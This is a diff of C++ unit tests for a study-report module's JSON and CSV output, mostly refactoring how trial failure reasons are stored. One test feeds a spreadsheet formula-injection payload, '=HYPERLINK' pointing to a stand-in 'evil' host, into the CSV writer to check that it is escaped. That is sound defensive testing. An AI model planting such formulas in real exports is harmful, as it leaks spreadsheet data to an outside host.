@@ -2,6 +2,7 @@
 #include "core/report/documents.h"
 #include "core/report/recommendation.h"
 #include "core/report/study_csv.h"
+#include "core/sentences/sentences.h"
 #include "core/text/format.h"
 #include "tests/support/golden.h"
 #include "tests/support/sample_study.h"
@@ -36,8 +37,8 @@ TEST(StudyDocument, SaysWhichTrialsTheWorkspaceHasLost)
     model::StudySnapshot snapshot = test::sampleStudy();
     EXPECT_TRUE(losses(snapshot).empty());
     ASSERT_GT(snapshot.trials.size(), 2u);
-    snapshot.trials[0].reason = {
-        model::ReasonKind::damaged, "The workspace is damaged: of this trial config cannot be read.", {}};
+    snapshot.trials[0].reason = {model::ReasonKind::damaged,
+                                 base::foreignText("The workspace is damaged: of this trial config cannot be read.")};
     snapshot.trials[0].state = model::TrialState::failed;
     snapshot.trials[1].measurement.flags.push_back(model::TrialFlag::unreadableTimes);
     const std::string all = " of " + std::to_string(snapshot.trials.size()) + " trials cannot be read (";
@@ -48,7 +49,7 @@ TEST(StudyDocument, SaysWhichTrialsTheWorkspaceHasLost)
     const Json d = studyDocument(snapshot);
     EXPECT_EQ(d["losses"].size(), 2u);
     EXPECT_EQ(d["trials"][0]["state"], "failed");
-    EXPECT_EQ(d["trials"][0]["reason"], "damaged: " + snapshot.trials[0].reason.text);
+    EXPECT_EQ(d["trials"][0]["reason"], "damaged: " + sentences::sentence(snapshot.trials[0].reason.message));
 }
 
 TEST(StudyDocument, HasExactlyTheMembersThatScriptsRelyOn)
@@ -219,8 +220,8 @@ TEST(StudyCsv, TheRangeOfAFewSamplesIsNotWrittenAsAnInterval)
 TEST(StudyCsv, TextFromAStudyIsNoFormulaToASpreadsheet)
 {
     auto study = test::sampleStudy();
-    study.trials[5].reason.text = "=HYPERLINK(\"http://evil/?\"&A1)";
-    study.trials[6].reason.text = "@SUM(1)";
+    study.trials[5].reason.message = base::foreignText("=HYPERLINK(\"http://evil/?\"&A1)");
+    study.trials[6].reason.message = base::foreignText("@SUM(1)");
     const std::string csv = studyCsv(study);
     EXPECT_NE(csv.find(R"csv(,"'=HYPERLINK(""http://evil/?""&A1)",)csv"), std::string::npos) << csv;
     EXPECT_NE(csv.find(",'@SUM(1),"), std::string::npos);
